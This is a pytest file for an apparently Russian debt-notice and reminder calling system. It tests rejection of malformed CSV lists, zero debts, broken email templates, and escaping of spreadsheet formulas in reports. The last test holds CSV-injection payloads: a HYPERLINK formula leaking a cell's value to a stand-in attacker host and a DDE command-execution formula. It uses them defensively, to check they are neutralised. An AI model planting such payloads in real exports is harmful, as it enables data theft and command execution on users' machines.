"""Hostile input met on the way: files that are no CSV, lists that give nothing, a zero debt,
letters that cannot be filled for anybody, report cells a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import random
from decimal import Decimal
from typing import Any

import pytest

from autoinformer.exceptions import CallListError, ScenarioError
from autoinformer.lists import EmptyListError, open_campaign_list, parse_call_list
from autoinformer.lists import parse_campaign_list as parse_list
from autoinformer.reports import ReportRow, build_report, spreadsheet_cell, to_csv
from autoinformer.scenarios import builtin_scenarios, parse_scenario, scenario_from_body
from contact_center.speech.prompts import PromptCatalog

PROMPTS = set(PromptCatalog.load())
SCENARIOS = {s.name: s for s in builtin_scenarios(prompts=PROMPTS)}
DEBT = SCENARIOS["debt-notice"]
REMINDER = SCENARIOS["reminder"]
SAVE_AS = "сохраните таблицу как CSV (UTF-8 или cp1251, разделитель «,» или «;»)"
NOISE = random.Random(3).randbytes(4000)


# ---------------------------------------------------------------- files that are no CSV


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"\x89PNG\r\n\x1a\n" + NOISE, f"это не таблица CSV, а изображение PNG: {SAVE_AS}"),
        (
            b"PK\x03\x04\x14\x00\x06\x00" + NOISE,
            f"это не таблица CSV, а книга Excel (xlsx) или архив ZIP: {SAVE_AS}",
        ),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + NOISE,
            f"это не таблица CSV, а книга Excel или документ Word старого формата: {SAVE_AS}",
        ),
        (b"%PDF-1.7\n" + NOISE, f"это не таблица CSV, а документ PDF: {SAVE_AS}"),
        (
            "phone,account,debt\n+79130000001,1,10\n".encode("utf-16"),
            f"это не таблица CSV, а текст в кодировке UTF-16: {SAVE_AS}",
        ),
        (
            "phone;account;debt\n+79130000001;Иванов;10\n".encode("utf-16-le"),
            f"это не таблица CSV, а текст в кодировке UTF-16: {SAVE_AS}",
        ),
        (NOISE, f"это не таблица CSV, а двоичный файл: {SAVE_AS}"),
        (
            b"phone,debt\n+79130000001,10\n\x00\x00\x00",
            f"это не таблица CSV, а двоичный файл: {SAVE_AS}",
        ),
        (
            b"phone,account\n+79130000001,\xd0\x98\n+79130000002,\x98\n",
            f"файл не в UTF-8 (строка 3) и не в cp1251 (байт 0x98 в строке 2): {SAVE_AS}",
        ),
        (b"", "файл пуст: нет строки заголовка"),
        (b"\xef\xbb\xbf", "файл пуст: нет строки заголовка"),
    ],
)
def test_a_file_that_is_no_csv_is_refused_with_one_line(data: bytes, message: str) -> None:
    with pytest.raises(CallListError) as exc:
        parse_call_list(data, scenario=DEBT)
    assert str(exc.value) == message
    with pytest.raises(CallListError) as again:
        parse_list(data, channel="email", scenario=DEBT)
    assert str(again.value) == message


def test_a_cp1251_list_with_a_bom_less_header_is_still_read() -> None:
    data = "phone;name;account;debt\n+7 913 000-00-01;Ёжиков Ёж;1;1 500,00\n".encode("cp1251")
    parsed = parse_call_list(data, scenario=DEBT)
    assert [(c.phone, c.name) for c in parsed.contacts] == [("79130000001", "Ёжиков Ёж")]


# ---------------------------------------------------------------- a list that gives nothing


ALL_BAD = """phone,account,debt
not a phone,1,10
+7 913 000-00-02,2,0
+7 913 000-00-03,3,
+7 913 000-00-04,4,12a
+7 913 000-00-05,5
+7 913 000-00-06,6,"0,00"
"""


def test_a_list_whose_every_row_is_refused_names_every_row_and_gives_nothing() -> None:
    reader = open_campaign_list(ALL_BAD.encode(), scenario=DEBT)
    assert list(reader) == []
    with pytest.raises(EmptyListError) as exc:
        reader.check_not_empty()
    assert str(exc.value) == "в списке не осталось ни одного абонента для звонка"
    assert [str(note) for note in exc.value.parsed.rejected] == [
        "строка 2: phone: недопустимые символы в номере «not a phone»",
        "строка 3: debt: задолженность 0,00 ₽ — уведомлять не о чем",
        "строка 4: сообщение не собрать: нет поля 'debt'",
        "строка 5: debt: не сумма в рублях: «12a»",
        "строка 6: ожидалось столбцов: 3, в строке: 2",
        "строка 7: debt: задолженность 0,00 ₽ — уведомлять не о чем",
    ]


def test_an_e_mail_list_that_gives_nothing_says_so_for_its_channel() -> None:
    data = "email,email_consent,account,debt\na@example.ru,нет,1,10\nb@example.ru,да,2,0\n"
    reader = open_campaign_list(data.encode(), channel="email", scenario=DEBT)
    assert list(reader) == []
    with pytest.raises(EmptyListError, match="ни одного адреса с согласием") as exc:
        reader.check_not_empty()
    assert [str(note) for note in exc.value.parsed.rejected] == [
        "строка 2: e-mail a***@example.ru: нет согласия на рассылку (email_consent)",
        "строка 3: e-mail b***@example.ru: debt: задолженность 0,00 ₽ — уведомлять не о чем",
    ]


def test_a_list_is_read_once_and_counts_what_it_gave() -> None:
    data = "phone,account,debt\n+79130000001,1,10\n+79130000002,2,0\n+79130000001,1,10\n"
    reader = open_campaign_list(data.encode(), scenario=DEBT)
    assert [item.line for item in reader] == [2]
    assert list(reader) == []  # one pass: the rows are not kept
    assert (reader.contacts, reader.letters) == (1, 0)
    reader.check_not_empty()
    assert [n.line for n in reader.result.rejected] == [3]
    assert [n.line for n in reader.result.duplicates] == [4]


# ---------------------------------------------------------------- a zero debt


def test_a_zero_debt_is_kept_where_the_message_does_not_read_it() -> None:
    data = "phone,account,debt\n+79130000001,1,0\n+79130000002,2,\n"
    parsed = parse_call_list(data.encode(), scenario=REMINDER)
    assert [(c.line, dict(c.values)) for c in parsed.contacts] == [
        (2, {"debt": "0.00"}),
        (3, {}),
    ]
    assert parsed.rejected == []


def test_a_zero_debt_in_a_list_for_both_channels_refuses_the_call_and_the_letter() -> None:
    data = "phone,email,email_consent,account,debt\n+79130000001,a@example.ru,да,1,0\n"
    parsed = parse_list(data.encode(), channel="both", scenario=DEBT)
    assert (parsed.contacts, parsed.letters) == ([], [])
    assert [str(n) for n in parsed.rejected] == [
        "строка 2: звонок: debt: задолженность 0,00 ₽ — уведомлять не о чем; "
        "e-mail a***@example.ru: debt: задолженность 0,00 ₽ — уведомлять не о чем"
    ]


# ---------------------------------------------------------------- letters that cannot be filled


BASE: dict[str, Any] = {"name": "s", "kind": "debt", "message": "Долг {money:debt}."}
LETTER_START = "my.toml: email.text, строка 2: "
FOR_NOBODY = LETTER_START + "письмо не собирается даже для образцового абонента: "


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            "{{ debt | monet }}",
            LETTER_START + "ошибка шаблона: неизвестный фильтр «monet» "
            "(фильтры значений: money, date, time, timerange, quantity, number, phone)",
        ),
        (
            "{{ debt | money",
            LETTER_START
            + "ошибка шаблона: unexpected end of template, expected 'end of print statement'.",
        ),
        (
            "{{ account is numeric }}",
            LETTER_START + "ошибка шаблона: неизвестная проверка «numeric» в is",
        ),
        ("{{ debt.rubles }}", FOR_NOBODY + "нет поля 'debt.rubles'"),
        ("{{ name | money }}", FOR_NOBODY + "поле 'name': не сумма: 'Иванов Иван Иванович'"),
        ("{{ debt | date }}", FOR_NOBODY + "поле 'debt': не дата: Decimal('1500.00')"),
        (
            "{{ account + 1 }}",
            FOR_NOBODY + 'выражение не вычисляется: can only concatenate str (not "int") to str',
        ),
        ("{% for part in name %}{{ part.first }}{% endfor %}", FOR_NOBODY + "нет поля 'first'"),
    ],
)
def test_a_letter_that_fails_for_a_sample_customer_is_refused_when_added(
    text: str, message: str
) -> None:
    data = {**BASE, "email": {"subject": "Долг", "text": f"Здравствуйте!\n{text}"}}
    with pytest.raises(ScenarioError) as exc:
        parse_scenario(data, "my.toml", prompts=PROMPTS)
    assert str(exc.value) == message


def test_letters_with_fields_of_their_own_pass_the_sample_check() -> None:
    text = (
        "{{ name }}: {{ debt | money }} на {{ debt_date | date }}, {{ meter | number }} кВт·ч,\n"
        "отключение {{ outage_start | date(form='genitive') }} {{ since | timerange(until) }}"
        " и {{ window | timerange }}, звоните {{ office | phone }}; {{ district }}.\n"
        "{{ unsubscribe_url }}"
    )
    scenario = parse_scenario({**BASE, "email": {"subject": "{{ account }}", "text": text}}, "f")
    assert scenario.email is not None
    assert scenario.email.filtered_as() == {
        "debt": "money",
        "debt_date": "date",
        "meter": "number",
        "outage_start": "date",
        "since": "time",
        "until": "timerange_end",
        "window": "timerange",
        "office": "phone",
    }


def test_a_stored_scenario_loads_even_if_a_later_check_would_refuse_its_letter() -> None:
    body = json.dumps({**BASE, "email": {"subject": "s", "text": "{{ debt.rubles }}"}})
    assert scenario_from_body(body, "s@1").email is not None
    # every shipped letter passes the check (builtin_scenarios ran it above)
    assert all(s.email is not None for s in SCENARIOS.values())


# ---------------------------------------------------------------- spreadsheet formulas


def test_report_csv_cells_that_would_run_as_formulas_get_a_quote() -> None:
    link = '=HYPERLINK("http://evil.example/?d="&A1,"Оплатить")'
    rows = [
        ReportRow("79130000001", link, "notified", True, 1, 1, note="+7 913 000-00-01"),
        ReportRow(
            "",
            "-2+3",
            "",
            False,
            0,
            0,
            email="@sum@example.ru",
            email_status="failed",
            email_code=550,
            email_reply="=cmd|' /C calc'!A0",
            email_last_deferral="\t=1+1",
            email_note="\r=1+1",
        ),
    ]
    data = to_csv(build_report({"id": 1, "channel": "both"}, rows))
    assert data.startswith("\ufeffТелефон;Лицевой счёт;".encode())
    text = data.decode("utf-8-sig")
    lines = text.split("\r\n")  # not splitlines(): a CR inside a quoted cell ends no line
    assert lines[1] == (
        '7 (913) 000-00-01;"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Оплатить"")";;;;'
        "оповещён;да;1;1;нет;'+7 913 000-00-01;;;;;0;0;;;;"
    )
    assert lines[2] == (
        ";'-2+3;;;;;;0;0;;;;;'@sum@example.ru;не доставлено;0;0;550;'=cmd|' /C calc'!A0;"
        "'\t=1+1;\"'\r=1+1\""
    )
    assert lines[3:] == [""], "rows only: the totals are in the XLSX and the JSON"
    # read back as a spreadsheet would: the CR stays inside its cell, no row starts with "="
    read = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert read[2][-1] == "'\r=1+1"
    assert [row[0] for row in read] == ["Телефон", "7 (913) 000-00-01", ""]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("79130000001", "79130000001"),
        ("+79130000001", "'+79130000001"),
        ("-5", "'-5"),
        (-5, -5),
        (Decimal("-1.50"), Decimal("-1.50")),
        ("Иванов", "Иванов"),
        (" =1+1", " =1+1"),
        ("", ""),
    ],
)
def test_spreadsheet_cell(value: object, written: object) -> None:
    assert spreadsheet_cell(value) == written
